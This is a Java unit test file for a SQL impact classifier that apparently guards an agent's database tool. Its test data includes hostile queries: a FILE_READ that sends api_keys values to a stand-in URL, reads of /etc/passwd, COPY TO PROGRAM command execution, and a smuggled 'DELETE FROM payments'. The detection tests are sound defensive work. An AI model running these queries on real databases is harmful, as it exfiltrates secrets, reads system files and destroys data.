package dev.leash.tools.sql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.leash.api.tool.Impact;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SqlAnalysisTest {

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiterString = " ## ", quoteCharacter = '"', value = {
        "H2 ## SELECT CSVWRITE('/tmp/x', 'SELECT * FROM salaries') ## IRREVERSIBLE ## sql.function ## CSVWRITE",
        "H2 ## SELECT FILE_READ('https://c.example/?k=' || (SELECT v FROM api_keys)) ## IRREVERSIBLE ## sql.function ## FILE_READ",
        "H2 ## SELECT * FROM LINK_SCHEMA('L', '', 'jdbc:h2:mem:x', 'sa', '', 'PUBLIC') ## IRREVERSIBLE ## sql.function ## LINK_SCHEMA",
        "H2 ## SELECT NEXT VALUE FOR seq ## IRREVERSIBLE ## sql.function ## NEXT VALUE FOR",
        "H2 ## CREATE LINKED TABLE l('', 'jdbc:h2:mem:x', 'sa', '', 'api_keys') ## IRREVERSIBLE ## sql.function ## LINKED TABLE",
        "H2 ## SELECT my_alias(1) ## IRREVERSIBLE ## sql.function ## MY_ALIAS",
        "H2 ## SELECT UPPER(name) FROM t ## READ ## sql.read ## query",
        "POSTGRESQL ## SELECT setval('s', 1) ## IRREVERSIBLE ## sql.function ## SETVAL",
        "POSTGRESQL ## SELECT pg_catalog.nextval('s') ## IRREVERSIBLE ## sql.function ## NEXTVAL",
        "POSTGRESQL ## SELECT public.lower('x') ## IRREVERSIBLE ## sql.function ## PUBLIC.LOWER",
        "POSTGRESQL ## SELECT \"lower\"('x') ## IRREVERSIBLE ## sql.function ## quoted",
        "POSTGRESQL ## SELECT pg_advisory_lock(1) ## IRREVERSIBLE ## sql.function ## lock",
        "POSTGRESQL ## SELECT lo_import('/etc/passwd') ## IRREVERSIBLE ## sql.function ## large objects",
        "POSTGRESQL ## SELECT pg_read_file('/etc/passwd') ## IRREVERSIBLE ## sql.function ## PG_READ_FILE",
        "POSTGRESQL ## COPY (SELECT 1) TO PROGRAM 'id' ## IRREVERSIBLE ## sql.statement ## program",
        "POSTGRESQL ## SELECT * FROM t FOR UPDATE ## WRITE ## sql.lock ## FOR UPDATE",
        "POSTGRESQL ## SELECT * FROM t FOR NO KEY UPDATE ## WRITE ## sql.lock ## FOR NO KEY UPDATE",
        "POSTGRESQL ## SELECT * FROM t FOR KEY SHARE ## WRITE ## sql.lock ## FOR KEY SHARE",
        "POSTGRESQL ## WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d ## IRREVERSIBLE ## sql.delete ## DELETE",
        "POSTGRESQL ## MERGE INTO t USING s ON (t.id = s.id) WHEN MATCHED THEN DELETE ## IRREVERSIBLE ## sql.delete ## DELETE",
        "POSTGRESQL ## WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u ## WRITE ## sql.write ## UPDATE",
        "POSTGRESQL ## SELECT E'\\''; DELETE FROM payments; --' ## IRREVERSIBLE ## sql.unparsed ## E'...'",
        "POSTGRESQL ## SELECT $$x$$ ## IRREVERSIBLE ## sql.unparsed ## dollar",
        "POSTGRESQL ## SELECT 1 /* a /* b */ */ ## IRREVERSIBLE ## sql.unparsed ## nested",
        "POSTGRESQL ## SELECT 1; SELECT nextval('s') ## IRREVERSIBLE ## sql.function ## NEXTVAL",
        "POSTGRESQL ## SELECT generate_series(1, 3) ## READ ## sql.read ## query",
        "H2 ## SELECT FILTER() ## IRREVERSIBLE ## sql.function ## FILTER is a keyword",
        "H2 ## SELECT id FROM t WHERE VARCHAR() > 0 ## IRREVERSIBLE ## sql.function ## VARCHAR",
        "POSTGRESQL ## SELECT * FROM t WHERE key() > 0 ## IRREVERSIBLE ## sql.function ## KEY",
        "POSTGRESQL ## SELECT COALESCE(NULL, rows()) ## IRREVERSIBLE ## sql.function ## ROWS",
        "UNKNOWN ## SELECT cube() ## IRREVERSIBLE ## sql.function ## CUBE",
        "POSTGRESQL ## SELECT COUNT(*) FILTER (WHERE a > 1) FROM t ## READ ## sql.read ## query",
        "H2 ## SELECT COUNT(*) FILTER (WHERE a > 1) FROM t ## READ ## sql.read ## query",
        "POSTGRESQL ## SELECT a, SUM(b) FROM t GROUP BY CUBE(a) ## READ ## sql.read ## query",
        "POSTGRESQL ## SELECT a, GROUPING(a) FROM t GROUP BY ROLLUP(a) ## READ ## sql.read ## query",
        "H2 ## SELECT CAST(a AS VARCHAR(10)), CAST(b AS DECIMAL(10, 2)) FROM t ## READ ## sql.read ## query",
        "H2 ## SELECT ROW_NUMBER() OVER (PARTITION BY a ORDER BY b) FROM t ## READ ## sql.read ## query",
        "POSTGRESQL ## SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a) FROM t ## READ ## sql.read ## query",
        "H2 ## SELECT PERCENTILE_DISC(0.5) WITHIN GROUP (ORDER BY a) FROM t ## READ ## sql.read ## query",
        "H2 ## SELECT \"GROUP\"(1) ## IRREVERSIBLE ## sql.function ## quoted",
        "UNKNOWN ## SELECT lower('x') ## IRREVERSIBLE ## sql.function ## unknown database",
        "UNKNOWN ## SELECT * FROM t ## READ ## sql.read ## query",
    })
    void impactRuleAndReasonNameWhatTheStatementCanDo(SqlDialect dialect, String sql, Impact impact, String rule, String names) {
        SqlAnalysis analysis = SqlAnalysis.of(sql, dialect);

        assertThat(analysis.impact()).as(sql).isEqualTo(impact);
        assertThat(analysis.rule()).as(sql).contains(rule);
        assertThat(analysis.reason()).as(sql).containsIgnoringCase(names);
        assertThat(analysis.impactReason().isPresent()).isEqualTo(impact != Impact.READ);
    }

    @ParameterizedTest(name = "{0}: {1} is {2}")
    @CsvSource(delimiterString = " ## ", value = {
        "POSTGRESQL ## SELECT 1::purged ## IRREVERSIBLE",
        "POSTGRESQL ## SELECT CAST(x AS public.purged) FROM t ## IRREVERSIBLE",
        "POSTGRESQL ## SELECT purged '1' ## IRREVERSIBLE",
        "POSTGRESQL ## SELECT id, public.purged '1' FROM t ## IRREVERSIBLE",
        "POSTGRESQL ## SELECT 'x'::\"text\" ## IRREVERSIBLE",
        "POSTGRESQL ## WITH x AS (SELECT ARRAY[1]::purged[]) SELECT * FROM x ## IRREVERSIBLE",
        "H2 ## SELECT CAST(1 AS PURGED) ## IRREVERSIBLE",
        "H2 ## SELECT CAST(x AS JAVA_OBJECT) FROM t ## IRREVERSIBLE",
        "UNKNOWN ## SELECT CAST(x AS INT) FROM t ## IRREVERSIBLE",
        "POSTGRESQL ## SELECT a::text, CAST(b AS numeric(10, 2)), c::timestamp with time zone FROM t ## READ",
        "POSTGRESQL ## SELECT date '2024-01-01', interval '1 day', int4 '1', 'x'::regclass, CAST(1 AS pg_catalog.int8) ## READ",
        "POSTGRESQL ## SELECT name FROM t WHERE name LIKE 'a%' ESCAPE '!' AND name ILIKE 'b' ## READ",
        "POSTGRESQL ## SELECT now() AT TIME ZONE 'UTC', trim(leading 'x' from name) FROM t ## READ",
        "POSTGRESQL ## SELECT CASE WHEN a = 'x' THEN 'y' ELSE 'z' END FROM t ## READ",
        "H2 ## SELECT CAST(a AS VARCHAR(10)), CAST(b AS DOUBLE PRECISION), CAST(c AS TINYINT) FROM t ## READ",
    })
    void aCastIsReadOnlyToABuiltInType(SqlDialect dialect, String sql, Impact impact) {
        SqlAnalysis analysis = SqlAnalysis.of(sql, dialect);

        assertThat(analysis.impact()).as(sql).isEqualTo(impact);
        if (impact == Impact.IRREVERSIBLE) {
            assertThat(analysis.rule()).as(sql).isEqualTo("sql.function");
            assertThat(analysis.reason()).as(sql).contains("a cast to");
            assertThat(analysis.tables()).as(sql).contains("(unknown)");
        }
    }

    @Test
    void aColumnsTypeInDdlIsNoCast() {
        for (String sql : List.of("CREATE TABLE x (id SERIAL, c code, t TEXT[])", "ALTER TABLE t ADD COLUMN c code",
                "CREATE USER u PASSWORD 'x'")) {
            SqlAnalysis analysis = SqlAnalysis.of(sql, SqlDialect.POSTGRESQL);
            assertThat(analysis.impact()).as(sql).isEqualTo(Impact.IRREVERSIBLE);
            assertThat(analysis.rule()).as(sql).isEqualTo("sql.statement");
        }
    }

    @Test
    void aDangerousFunctionIsNamedEvenInTextThatCouldBeReadTwoWays() {
        SqlAnalysis analysis = SqlAnalysis.of("SELECT * FROM LINK_SCHEMA('L', '', 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''a''\\;', 'sa', '', 'P')",
                SqlDialect.H2);

        assertThat(analysis.impact()).isEqualTo(Impact.IRREVERSIBLE);
        assertThat(analysis.parsed()).isFalse();
        assertThat(analysis.rule()).isEqualTo("sql.unparsed+sql.function");
        assertThat(analysis.reason()).contains("backslash").contains("LINK_SCHEMA");
    }

    @ParameterizedTest(name = "{0}: hidden={1}")
    @CsvSource(delimiterString = " ## ", value = {
        "MERGE INTO t USING s ON (t.id = s.id) WHEN MATCHED THEN DELETE ## true",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d ## true",
        "SELECT * FROM t FOR UPDATE ## true",
        "SELECT nextval('seq') ## true",
        "SELECT E'x' ## true",
        "DELETE FROM t WHERE id = 1 ## false",
        "UPDATE t SET a = 1 ## false",
        "DROP TABLE t ## false",
    })
    void anImpactHiddenBehindWhatTheStatementLooksLikeIsARiskFlag(String sql, boolean hidden) {
        SqlAnalysis analysis = SqlAnalysis.of(sql, SqlDialect.POSTGRESQL);

        assertThat(analysis.impactReason()).get().extracting(r -> r.riskFlag()).as(analysis.rule()).isEqualTo(hidden);
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiterString = " ## ", value = {
        // a CTE named like a table hides the table only where the CTE is in scope
        "H2 ## WITH api_keys AS (SELECT * FROM api_keys) SELECT * FROM api_keys ## api_keys",
        "POSTGRESQL ## WITH a AS (SELECT * FROM api_keys), api_keys AS (SELECT 1 AS v) SELECT * FROM a ## api_keys",
        "POSTGRESQL ## SELECT * FROM (WITH api_keys AS (SELECT 1 AS v) SELECT * FROM api_keys) x, api_keys ## api_keys",
        "POSTGRESQL ## WITH RECURSIVE a AS (SELECT * FROM api_keys), api_keys AS (SELECT 1 AS v) SELECT * FROM a ## api_keys",
        // subqueries in every clause
        "H2 ## SELECT * FROM orders ORDER BY (SELECT MAX(v) FROM api_keys) ## orders, api_keys",
        "POSTGRESQL ## SELECT id FROM orders WINDOW w AS (ORDER BY (SELECT MAX(v) FROM api_keys)) ## orders, api_keys",
        "POSTGRESQL ## SELECT COUNT(*) FILTER (WHERE id IN (SELECT id FROM api_keys)) FROM orders ## orders, api_keys",
        "H2 ## SELECT * FROM orders OFFSET (SELECT COUNT(*) FROM api_keys) ROWS ## orders, api_keys",
        "POSTGRESQL ## SELECT DISTINCT ON ((SELECT MAX(v) FROM api_keys)) id FROM orders ## orders, api_keys",
        "POSTGRESQL ## SELECT string_agg(item, ',' ORDER BY (SELECT MAX(v) FROM api_keys)) FROM orders ## orders, api_keys",
        "H2 ## SELECT ROW_NUMBER() OVER (PARTITION BY (SELECT MAX(v) FROM api_keys)) FROM orders ## orders, api_keys",
        "POSTGRESQL ## SELECT * FROM (TABLE api_keys) x ## api_keys",
        // functions that may use tables the text does not name
        "POSTGRESQL ## SELECT table_to_xml('api_keys', true, true, '') ## (unknown)",
        "POSTGRESQL ## SELECT query_to_xml('SELECT * FROM api_keys', true, true, '') ## (unknown)",
        "H2 ## SELECT my_alias(id) FROM orders ## orders, (unknown)",
        "POSTGRESQL ## SELECT public.nextval('s') ## (unknown)",
        // statements the parser only knows by their first words: any table, and so none the allowlist admits
        "H2 ## CREATE TRIGGER t BEFORE INSERT ON orders CALL 'org.example.Trigger' ## (unknown)",
        "POSTGRESQL ## ALTER ROLE x SUPERUSER ## (unknown)",
        "H2 ## CREATE LINKED TABLE l('', 'jdbc:h2:mem:x', 'sa', '', 'api_keys') ## l, (unknown)",
        // benign twins: exactly the tables they use
        "H2 ## WITH big AS (SELECT * FROM orders WHERE amount > 100) SELECT * FROM big ## orders",
        "POSTGRESQL ## WITH big AS (SELECT * FROM orders), bigger AS (SELECT * FROM big) SELECT * FROM bigger ## orders",
        "POSTGRESQL ## WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 3) SELECT * FROM n ## ",
        "POSTGRESQL ## WITH RECURSIVE api_keys(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM api_keys WHERE id < 3) SELECT * FROM api_keys ## ",
        "H2 ## WITH RECURSIVE api_keys(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM api_keys WHERE id < 3) SELECT * FROM api_keys ## api_keys",
        "H2 ## WITH RECURSIVE api_keys(id) AS (SELECT id FROM api_keys UNION ALL SELECT id + 1 FROM api_keys WHERE id < 3) SELECT * FROM api_keys ## api_keys",
        "H2 ## WITH x AS (SELECT 1) SELECT * FROM x, (WITH y AS (SELECT 2) SELECT * FROM y, x) z ## ",
        "POSTGRESQL ## SELECT o.id, o.* FROM orders o ORDER BY o.id ## orders",
        "H2 ## SELECT orders.id FROM public.orders ## public.orders",
        "POSTGRESQL ## SELECT * FROM orders ORDER BY (SELECT MAX(amount) FROM payments WHERE payments.id = orders.id) ## orders, payments",
        "POSTGRESQL ## TABLE orders ## orders",
        "POSTGRESQL ## SELECT nextval('s') ## ",
        "POSTGRESQL ## SELECT pg_advisory_lock(1) ## ",
        "H2 ## SELECT UPPER(item), COUNT(*) FROM orders GROUP BY item ## orders",
        "H2 ## CREATE TABLE IF NOT EXISTS x(id INT) ## x",
        "H2 ## DROP TABLE IF EXISTS x ## x",
    })
    void theTablesNamedAreEveryTableTheStatementCanUse(SqlDialect dialect, String sql, String expected) {
        List<String> tables = SqlAnalysis.of(sql, dialect).tables().stream().map(t -> t.toLowerCase(Locale.ROOT)).toList();

        assertThat(tables).as(sql).containsExactlyInAnyOrder(expected == null ? new String[0] : expected.split(", "));
    }

    @Test
    void eachStatementReachesTheDriverOnItsOwn() {
        SqlAnalysis analysis = SqlAnalysis.of("SELECT 1; SELECT 'a;b' ; SELECT 2", SqlDialect.H2);

        assertThat(analysis.sources()).containsExactly("SELECT 1", "SELECT 'a;b'", "SELECT 2");
        assertThat(analysis.impact()).isEqualTo(Impact.READ);
    }

    @Test
    void theDialectComesFromTheJdbcUrl() {
        assertThat(SqlDialect.fromJdbcUrl("jdbc:h2:mem:x")).isEqualTo(SqlDialect.H2);
        assertThat(SqlDialect.fromJdbcUrl("jdbc:postgresql://db/app")).isEqualTo(SqlDialect.POSTGRESQL);
        assertThat(SqlDialect.fromJdbcUrl("jdbc:mysql://db/app")).isEqualTo(SqlDialect.UNKNOWN);
    }
}
